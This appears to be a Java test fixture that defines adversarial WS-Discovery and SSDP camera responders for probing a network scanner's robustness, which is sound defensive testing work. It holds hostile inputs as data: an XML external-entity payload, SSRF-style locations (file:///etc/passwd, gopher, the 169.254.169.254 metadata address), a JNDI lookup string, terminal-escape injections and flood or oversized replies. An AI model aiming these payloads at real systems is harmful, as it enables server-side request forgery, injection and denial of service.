package org.camsweep.adversary;

import java.net.DatagramSocket;
import java.nio.charset.StandardCharsets;
import java.util.Collections;
import java.util.List;

/** WS-Discovery and SSDP: too much, too late, from elsewhere, and pointing elsewhere. */
final class DiscoveryTricks {
  private static final String UUID = "0b5d0f6e-7a5c-4f1f-9c3e-0000000000%02x";

  private DiscoveryTricks() {}

  static List<Behaviour> all() {
    return List.of(
        wsd(
            "wsd-10000-matches",
            "10,000 answers with as many names",
            "answers of a sender",
            (asked, place) -> {
              String one =
                  Lies.text(
                      Wsd.match(
                          asked,
                          "ffffffff-0000-0000-0000-100000000000",
                          Wsd.scopes("n", "H"),
                          "http://" + place.address() + "/onvif"));
              return Udp.many(
                  10_000, i -> Lies.ascii(one.replace("100000000000", "1000000%05d".formatted(i))));
            }),
        wsd(
            "wsd-10000-xaddrs",
            "one answer with as many addresses as it can hold",
            "addresses of an answer",
            (asked, place) ->
                List.of(
                    Wsd.match(
                        asked,
                        uuid(2),
                        Wsd.scopes("x", "H"),
                        ("http://" + Place.ELSEWHERE + "/o ").repeat(2_600)))),
        wsd(
            "wsd-xaddr-out",
            "addresses of every other kind",
            "no pivot",
            (asked, place) ->
                List.of(
                    Wsd.match(
                        asked,
                        uuid(3),
                        Wsd.scopes("x", "H"),
                        "http://"
                            + Place.ELSEWHERE
                            + "/onvif http://"
                            + Place.NAME
                            + "/onvif"
                            + " file:///etc/passwd gopher://"
                            + Place.ELSEWHERE
                            + " http://127.0.0.1/onvif"
                            + " http://169.254.169.254/onvif http://"
                            + place.scanner()
                            + "/onvif"
                            + " http://"
                            + place.victim()
                            + ":81/onvif http://[fe80::1]/onvif"))),
        wsd(
            "wsd-entity-bomb",
            "entities in a datagram",
            "reading of XML",
            (asked, place) ->
                List.of(
                    ("<!DOCTYPE a [<!ENTITY x SYSTEM \"http://"
                            + Place.ELSEWHERE
                            + "/\">]><Envelope><ProbeMatches>&x;</ProbeMatches></Envelope>")
                        .getBytes(StandardCharsets.UTF_8))),
        wsd(
            "wsd-deep",
            "as many levels as a datagram can hold",
            "levels of XML",
            (asked, place) ->
                List.of("<ProbeMatches>".repeat(4_600).getBytes(StandardCharsets.UTF_8))),
        wsd(
            "wsd-duplicates",
            "one answer 1,000 times",
            "answers of a sender",
            (asked, place) ->
                Collections.nCopies(
                    1_000,
                    Wsd.match(
                        asked,
                        uuid(4),
                        Wsd.scopes("x", "H"),
                        "http://" + place.address() + "/onvif"))),
        Behaviour.of(
            "wsd-late",
            "answers six seconds later",
            "late answers",
            Udp.at(
                3702,
                wsdOnly(
                    (asked, place) ->
                        List.of(
                            Wsd.match(
                                asked,
                                uuid(5),
                                Wsd.scopes("late", "H"),
                                "http://" + place.address() + "/onvif"))),
                (from, answers, to) -> {
                  Thread.sleep(6_000);
                  Udp.STRAIGHT.send(from, answers, to);
                })),
        Behaviour.of(
            "wsd-other-port",
            "answers from a hundred other ports",
            "matching of answers",
            Udp.at(
                3702,
                wsdOnly(
                    (asked, place) ->
                        List.of(
                            Wsd.match(
                                asked,
                                uuid(6),
                                Wsd.scopes("port", "H"),
                                "http://" + place.address() + "/onvif"))),
                (from, answers, to) -> {
                  for (int i = 0; i < 100; i++) {
                    try (DatagramSocket other = new DatagramSocket(0, from.getLocalAddress())) {
                      Udp.STRAIGHT.send(other, answers, to);
                    }
                  }
                })),
        wsd(
            "wsd-texts",
            "binary in every scope",
            "no escape",
            (asked, place) ->
                List.of(
                    Wsd.match(
                        asked,
                        "\u001b[2J\u202e",
                        "onvif://www.onvif.org/name/"
                            + "%00%1b%5b2J%e2%80%ae%c0%af onvif://www.onvif.org/hardware/=1+1",
                        "\u0000"))),
        ssdp(
            "ssdp-location-out",
            "a description out of scope",
            "no pivot",
            place -> "http://" + Place.ELSEWHERE + "/d.xml"),
        ssdp(
            "ssdp-location-file",
            "a description in a file",
            "no pivot",
            place -> "file:///etc/passwd"),
        ssdp(
            "ssdp-location-name",
            "a description at a name",
            "no look-up",
            place -> "http://" + Place.NAME + "/d.xml"),
        ssdp(
            "ssdp-location-scanner",
            "a description on the scanner",
            "no pivot",
            place -> "http://" + place.scanner() + "/d.xml"),
        ssdp(
            "ssdp-location-neighbour",
            "a description on an honest camera",
            "no pivot",
            place -> "http://" + place.victim() + "/d.xml"),
        Behaviour.of(
            "ssdp-duplicates",
            "one answer 1,000 times",
            "answers of a sender",
            Udp.at(
                1900,
                (asked, place) ->
                    Collections.nCopies(
                        1_000, Wsd.ssdp("http://" + place.address() + "/d.xml", uuid(7), "x")))),
        Behaviour.of(
            "ssdp-description",
            "a description of 10 MB",
            "bytes of a reply",
            Udp.at(
                1900,
                (asked, place) ->
                    List.of(Wsd.ssdp("http://" + place.address() + ":8081/d.xml", uuid(8), "x"))),
            Tcp.at(8081, Tcp.endless("HTTP/1.1 200 OK\r\n\r\n<root>", "<device>"))),
        Behaviour.of(
            "ssdp-texts",
            "binary in every header",
            "no escape",
            Udp.at(
                1900,
                (asked, place) ->
                    List.of(Wsd.ssdp("\u0001\u202e", "\u001b[2J", "a\u0000b ${jndi:ldap://x/}")))));
  }

  static String uuid(int n) {
    return UUID.formatted(n);
  }

  private static Udp.Words wsdOnly(Udp.Words words) {
    return (asked, place) -> Wsd.asks(asked) ? words.to(asked, place) : List.of();
  }

  private static Behaviour wsd(String name, String does, String tries, Udp.Words words) {
    return Behaviour.of(name, does, tries, Udp.at(3702, wsdOnly(words)));
  }

  private static Behaviour ssdp(
      String name, String does, String tries, java.util.function.Function<Place, String> location) {
    return Behaviour.of(
        name,
        does,
        tries,
        Udp.at(
            1900,
            (asked, place) -> List.of(Wsd.ssdp(location.apply(place), uuid(9), "x UPnP/1.0 y"))));
  }
}
